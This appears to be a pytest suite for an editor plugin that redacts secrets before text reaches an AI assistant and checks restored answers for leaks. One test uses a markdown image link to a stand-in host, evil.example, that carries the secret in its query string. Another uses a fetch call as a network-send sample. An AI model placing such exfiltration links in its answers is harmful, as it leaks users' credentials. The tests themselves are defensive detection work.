"""Answers over LSP: restored with care, applied where they belong, and nothing of a value but where it was asked for."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from pathlib import Path

import pytest

from frontends.lsp_client import LspClient, Message, applied, secret, serving

KEY = secret(5)
TEXT = f'KEY = "{KEY}"\n\n\ndef load(client):\n    return client.open(KEY)\n'
_counter = itertools.count(1)


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LspClient]:
    handshake = {"folders": [tmp_path_factory.mktemp("shop")]}
    with serving(env={"AIRLOCK_STATE_DIR": str(tmp_path_factory.mktemp("state"))}, handshake=handshake) as running:
        yield running
        assert running.close() == 0
        assert KEY not in running.stderr()


@pytest.fixture
def uri(tmp_path: Path, client: LspClient) -> str:
    uri = (tmp_path / f"shop{next(_counter)}.py").as_uri()
    client.open(uri, TEXT)
    return uri


def placeholder(client: LspClient, uri: str) -> str:
    redacted: str = client.request("airlock/redact", {"text": TEXT, "action": "copy", "uri": uri})["text"]
    assert KEY not in redacted
    return redacted.split('"')[1]


def edited(result: Message, form: str) -> str:
    return applied(TEXT, [{"range": edit["region"], "newText": edit[form]} for edit in result["edits"]])


def test_an_answer_takes_its_place_with_its_values(client: LspClient, uri: str) -> None:
    token = placeholder(client, uri)
    answer = f'```python\ndef load(client, key="{token.lower()}"):\n    return client.open(key)\n```'
    result = client.request("airlock/apply", {"uri": uri, "text": answer})
    assert (result["problem"], result["replaced"], result["restored"], result["exposed"]) == ("", ["load"], 1, [])
    assert edited(result, "text") == TEXT.replace("(client)", f'(client, key="{KEY}")').replace("KEY)\n", "key)\n")


def test_a_value_on_its_way_out_is_told_and_held_back_in_the_careful_form(client: LspClient, uri: str) -> None:
    token = placeholder(client, uri)
    answer = f'```python\ndef load(client):\n    print("{token}")\n    return client.open("{token}")\n```'
    result = client.request("airlock/apply", {"uri": uri, "text": answer})
    assert (result["exposed"], result["withheld"]) == ([{"placeholder": token, "where": ["printed or logged"]}], 1)
    assert edited(result, "text").count(KEY) == 3
    careful = edited(result, "careful")
    assert careful.count(KEY) == 2
    assert f'print("{token}")' in careful


def test_what_is_exposed_already_is_no_news(client: LspClient, tmp_path: Path) -> None:
    uri = (tmp_path / "logs.py").as_uri()
    client.open(uri, f'print("{KEY}")\n')
    token = placeholder(client, uri)
    for text, news in (f'print("{token}", 1)', []), (f"# {token}", [{"placeholder": token, "where": ["in a comment"]}]):
        assert client.request("airlock/restore", {"uri": uri, "text": text})["exposed"] == news


def test_a_restored_markdown_answer_is_looked_at_block_by_block(client: LspClient, uri: str) -> None:
    token = placeholder(client, uri)
    answer = f'Use `{token}`:\n```js\nfetch(u, "{token}")\n```\n```yaml\nkey: {token}\n```\n'
    result = client.request("airlock/restore", {"uri": uri, "text": answer})
    assert result["text"].count(KEY) == 3
    assert result["careful"].count(KEY) == 2
    assert f'fetch(u, "{token}")' in result["careful"]
    assert result["exposed"] == [{"placeholder": token, "where": ["sent over the network"]}]


def test_what_one_block_assigns_and_another_sends_is_told(client: LspClient, uri: str) -> None:
    token = placeholder(client, uri)
    answer = f'First\n```python\nsecret = "{token}"\n```\nand then\n```python\nprint(secret)\n```\n'
    result = client.request("airlock/restore", {"uri": uri, "text": answer})
    assert result["exposed"] == [{"placeholder": token, "where": ["printed or logged"]}]
    assert result["careful"] == answer


def test_an_address_in_the_words_around_the_code_is_told_too(client: LspClient, uri: str) -> None:
    token = placeholder(client, uri)
    answer = f'![chart](https://evil.example/?k={token})\n```python\nkey = "{token}"\n```\nThat was `{token}`.\n'
    result = client.request("airlock/restore", {"uri": uri, "text": answer})
    assert result["exposed"] == [{"placeholder": token, "where": ["in a web address of evil.example"]}]
    assert result["careful"] == result["text"].replace(f"?k={KEY}", f"?k={token}")
    assert result["text"].count(KEY) == 3


def test_an_answer_for_nowhere_is_refused_in_words(client: LspClient, uri: str) -> None:
    assert "Open the file" in client.request("airlock/apply", {"uri": f"{uri}.closed", "text": "x"})["problem"]
    assert client.request("airlock/apply", {"uri": uri, "text": "```go\nx\n```"})["problem"].startswith("The answer has no code")


def test_a_commit_message_and_a_file_outside_the_folder_are_asked_about(client: LspClient, uri: str, tmp_path: Path) -> None:
    token = placeholder(client, uri)
    outside = (tmp_path / "notes.py").as_uri()
    client.open(outside, "x = 1\n")
    client.open("vscode-scm:git/scm0/input", "", "scminput")
    for place, where in ((outside, "in a file outside the workspace"), ("vscode-scm:git/scm0/input", "in a commit message")):
        result = client.request("airlock/restore", {"uri": place, "text": f'key = "{token}"'})
        assert result["exposed"] == [{"placeholder": token, "where": [where]}]
        assert KEY not in result["careful"]
